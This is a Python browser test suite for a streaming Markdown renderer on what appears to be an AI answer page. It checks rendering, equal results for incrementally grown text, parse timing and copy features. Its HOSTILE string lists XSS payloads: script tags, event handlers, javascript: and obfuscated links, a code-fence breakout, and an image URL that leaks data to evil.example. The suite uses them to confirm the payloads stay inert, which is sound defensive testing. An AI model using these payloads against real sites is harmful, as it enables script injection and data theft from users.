"""The page's Markdown: rendering, hostile text, and equal results for growing text."""
import unittest

from answers import answer_with
from fresh_page_case import FreshPageCase

# [text, its elements]. A paragraph keeps its line ends; headings begin below the page's own levels.
EXAMPLES = [
    ["plain\nlines", "<p>plain\nlines</p>"],
    ["# One\n## Two ##\n####### seven", "<h3>One</h3><h4>Two</h4><p>####### seven</p>"],
    ["Title\n=====\nSub\n---", "<h3>Title</h3><h4>Sub</h4>"],
    ["**b** *i* __b__ _i_ ***bi*** ~~d~~", "<p><strong>b</strong> <em>i</em> <strong>b</strong> <em>i</em> "
     "<em><strong>bi</strong></em> <del>d</del></p>"],
    ["snake_case_name 2 * 3 * 4 ~x~", "<p>snake_case_name 2 * 3 * 4 ~x~</p>"],
    ["**a* b", "<p>*<em>a</em> b</p>"],
    ["`a*b*` ``c`d`` \\*e\\*", "<p><code>a*b*</code> <code>c`d</code> *e*</p>"],
    ["- a\n- b\n  - c\n\n  d\n3. e", "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul><p>d</p></li></ul>"
     "<ol><li><p>e</p></li></ol>"],
    ["1. a\n\n   b\n2. c", "<ol><li><p>a</p><p>b</p></li><li><p>c</p></li></ol>"],
    ["- [x] done\n- [ ] open", "<ul><li><span>☑</span><p>done</p></li><li><span>☐</span><p>open</p></li></ul>"],
    ["> a\nb\n> > c", "<blockquote><p>a\nb</p><blockquote><p>c</p></blockquote></blockquote>"],
    ["```py\nx = '<b>'\n\n  y\n```\nend", "<div><div><span>py</span><button>Copy</button></div>"
     "<pre><code>x = '&lt;b&gt;'\n\n  y</code></pre></div><p>end</p>"],
    ["~~~\nnever closed", "<div><div><span></span><button>Copy</button></div><pre><code>never closed</code></pre></div>"],
    ["a\n***\nb", "<p>a</p><hr><p>b</p>"],
    ["a | b\n-- | :-:\n1 | x\\|y\n2", "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>"
     "<tr><td>1</td><td>x|y</td></tr><tr><td>2</td><td></td></tr></tbody></table></div>"],
    ["[t](https://e.org/a_(b)) <https://e.org/> https://e.org/x.", "<p><a>t</a> <a>https://e.org/</a> "
     "<a>https://e.org/x</a>.</p>"],
    ["a &amp; b &lt;i&gt; &#x41;<br>c", "<p>a &amp; b &lt;i&gt; A\nc</p>"],
]

HOSTILE = """<script>window.__hacked = 1</script>
<img src=x onerror="window.__hacked = 1"> <svg onload=window.__hacked=1> <iframe srcdoc="<script>parent.__hacked=1</script>">
[a](javascript:window.__hacked=1) [b](JaVaScRiPt:alert(1)) [c]( java\tscript:alert(1)) [d](data:text/html,<script>1</script>)
[e](vbscript:x) [f](//evil.example) [g](/v1/models) [h](blob:https://e.org/1) <javascript:alert(1)> [i](&#106;avascript:alert(1))
![image](https://evil.example/?leak=1) ![x](javascript:alert(1)) [j](https://e.org "x" onclick=alert(1))
[k](https://e.org/"onmouseover="alert(1)) <a href="javascript:alert(1)">l</a> <style>*{display:none}</style>
```html" onclick="alert(1)
</code></pre><script>window.__hacked = 1</script>
```
| <b>x</b> | `|
|---|---|
"""
SAFE_TAGS = {"P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "DIV", "SPAN", "PRE", "CODE", "BUTTON",
             "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "EM", "STRONG", "DEL"}
SAFE_ATTRIBUTES = {"class", "href", "title", "target", "rel", "start", "type", "tabindex", "role", "aria-label"}

DRAW = """
const {MarkdownView} = await import("/page/markdown_view.js");
const draw = (pieces) => {
  const view = new MarkdownView();
  for (const piece of pieces) view.append(piece);
  view.finish();
  return view.node;
};
// Elements without attributes.
const bare = (node) => {
  const copy = node.cloneNode(true);
  for (const one of copy.querySelectorAll("*")) for (const name of one.getAttributeNames()) one.removeAttribute(name);
  return copy.innerHTML;
};
"""

# Text made of markup, grown in random pieces with every frame drawn, against the same text drawn at once.
GROW = DRAW + """
const PARTS = ["*", "**", "_", "`", "```", "```\\n", "~~~", "\\n", "\\n\\n", "\\n  ", "- ", "1. ", "2) ", "> ", "# ", "|", "|-|-|\\n",
  "a | b\\n", "---\\n", "===\\n", "[", "](", "https://e.org", ")", "![", "\\\\", "<", ">", "&amp;", "word ", "x", "é😀", "\\t", "    ", "[x] "];
let state = arguments[0];
const random = (below) => { state = (Math.imul(state, 1664525) + 1013904223) >>> 0; return Math.floor(state / 2 ** 32 * below); };
const realFrame = window.requestAnimationFrame;
const realNow = performance.now;
let frames = [];
window.requestAnimationFrame = (work) => frames.push(work);
let now = 0;
performance.now = () => now;  // frames without pauses: every draft is drawn
const different = [];
try {
  for (let round = 0; round < arguments[1]; round++) {
    const pieces = Array.from({length: 1 + random(30)}, () => PARTS[random(PARTS.length)]);
    const grown = new MarkdownView();
    for (const piece of pieces) {
      for (const char of random(2) ? [piece] : piece) {
        grown.append(char);
        now += 100;
        for (const work of frames.splice(0)) work();
      }
    }
    grown.finish();
    const text = pieces.join("");
    if (grown.node.innerHTML !== draw([text]).innerHTML) different.push([text, grown.node.innerHTML, draw([text]).innerHTML]);
    frames = [];
  }
} finally {
  window.requestAnimationFrame = realFrame;
  performance.now = realNow;
}
return different.slice(0, 3);
"""


class MarkdownTest(FreshPageCase):
    def run_async(self, script, *arguments):
        return self.browser.run(f"return (async function () {{{script}}}).apply(null, arguments)", *arguments)

    def test_examples(self):
        drawn = self.run_async(DRAW + "return arguments[0].map((text) => bare(draw([text])))",
                               [text for text, _ in EXAMPLES])
        for (text, expected), found in zip(EXAMPLES, drawn):
            with self.subTest(text):
                self.assertEqual(found, expected)

    def test_hostile_text_stays_text(self):
        self.ask("Go.", HOSTILE, piece=3)
        tags, attributes, links = self.browser.run(
            "const all = [...document.querySelectorAll('.markdown *')];"
            "return [[...new Set(all.map((node) => node.tagName))],"
            "  [...new Set(all.flatMap((node) => node.getAttributeNames()))],"
            "  [...document.querySelectorAll('.markdown a')].map((node) => [node.textContent, node.getAttribute('href'),"
            "    node.rel])]")
        self.assertLessEqual(set(tags), SAFE_TAGS)
        self.assertLessEqual(set(attributes), SAFE_ATTRIBUTES)
        self.assertIn(["Image: image", "https://evil.example/?leak=1", "noopener noreferrer nofollow"], links)
        for name, address, _ in links:
            self.assertRegex(address, "^https://(e.org|evil.example)/", name)
        self.assertIn("<script>window.__hacked = 1</script>", self.browser.text(".markdown p"))
        self.assertIsNone(self.browser.run("return window.__hacked ?? null"))
        self.assert_quiet_console()

    def test_the_browser_refuses_markup_from_text(self):
        refused = self.browser.run("try { document.createElement('p').innerHTML = '<b>x</b>'; return 'taken'; }"
                                   "catch (error) { return error.name; }")
        self.assertEqual(refused, "TypeError")

    def test_growing_text_is_drawn_as_the_whole(self):
        self.assertEqual(self.run_async(GROW, 17, 1500), [])

    def test_what_is_finished_stays_as_it_is(self):
        text = self.run_async(DRAW + """
            const node = draw(["**never closed *"]);
            for (let i = 0; i < 3; i++) await new Promise(requestAnimationFrame);  // what append() had asked for
            return node.textContent;""")
        self.assertEqual(text, "**never closed *")

    def test_unbalanced_markup_takes_linear_time(self):
        slow = self.run_async(DRAW + """
            const slow = [];
            for (const part of ["*", "**a ", "_a*b", "[", "![", "[a](b", "`a``b```", "[`a`", "> ", "- ", "a|", "***a* b** ", "<a:",
                                "- a\\n  ", "~~a ", "&#", "(", "```\\n", "https://a)))"]) {
              const text = part.repeat(100000 / part.length);
              const begin = performance.now();
              draw([text]);
              const ms = performance.now() - begin;
              if (ms > 4000) slow.push([part, ms]);
            }
            return slow;""")
        self.assertEqual(slow, [])

    def test_blocks_that_have_ended_are_left_alone(self):
        answer_with(self.browser, "First *one*.\n\n```js\nlet x;\n```\n\nSecond " + "word " * 60, piece=4, pause_ms=5)
        self.send("Go.")
        self.browser.until("return document.querySelector('.markdown')?.children.length === 3")
        self.browser.run("window.__kept = [...document.querySelector('.markdown').children];"
                         "window.__changes = 0;"
                         "new MutationObserver((list) => { window.__changes += list.length; }).observe(window.__kept[1],"
                         "  {subtree: true, childList: true, characterData: true, attributes: true});")
        self.until_answered()
        self.assertTrue(self.browser.run("return window.__kept.every((node, i) =>"
                                         "  node === document.querySelector('.markdown').children[i])"))
        self.assertEqual(self.browser.run("return window.__changes"), 0)
        self.assert_quiet_console()

    def test_answers_and_code_can_be_copied(self):
        text = "Run *this*:\n\n```sh\nmake test\n  echo done\n```\n"
        self.browser.grant_clipboard(self.url)
        self.ask("Go.", text)
        read = "return navigator.clipboard.readText()"
        self.browser.click(".markdown .copy-code")
        self.browser.until("return document.querySelector('.copy-code').textContent === 'Copied'")
        self.assertEqual(self.browser.run(read), "make test\n  echo done")
        self.browser.click(".actions .copy")
        self.browser.until("return document.querySelector('.actions .copy').textContent === 'Copied'")
        self.assertEqual(self.browser.run(read), text)
        self.browser.until("return document.querySelector('.actions .copy').textContent === 'Copy'")
        self.assert_quiet_console()

    def test_text_is_copied_without_a_clipboard(self):
        """Like a page loaded over plain HTTP from another machine."""
        self.browser.grant_clipboard(self.url)
        self.ask("Go.", "Copy me.")
        self.browser.run("window.__clipboard = navigator.clipboard;"
                         "Object.defineProperty(navigator, 'clipboard', {value: undefined, configurable: true})")
        self.browser.click(".actions .copy")
        self.browser.until("return document.querySelector('.actions .copy').textContent === 'Copied'")
        self.assertEqual(self.browser.run("return window.__clipboard.readText()"), "Copy me.")

    def test_the_source_can_be_shown(self):
        self.ask("Go.", "Some **bold** text.")
        self.assertEqual(self.browser.text(".answer .text"), "Some bold text.")
        self.browser.click(".actions .source")
        self.assertEqual(self.browser.text(".answer .text"), "Some **bold** text.")
        self.browser.click(".actions .source")
        self.assertEqual(self.browser.count(".answer strong"), 1)
        self.assert_quiet_console()


if __name__ == "__main__":
    unittest.main()
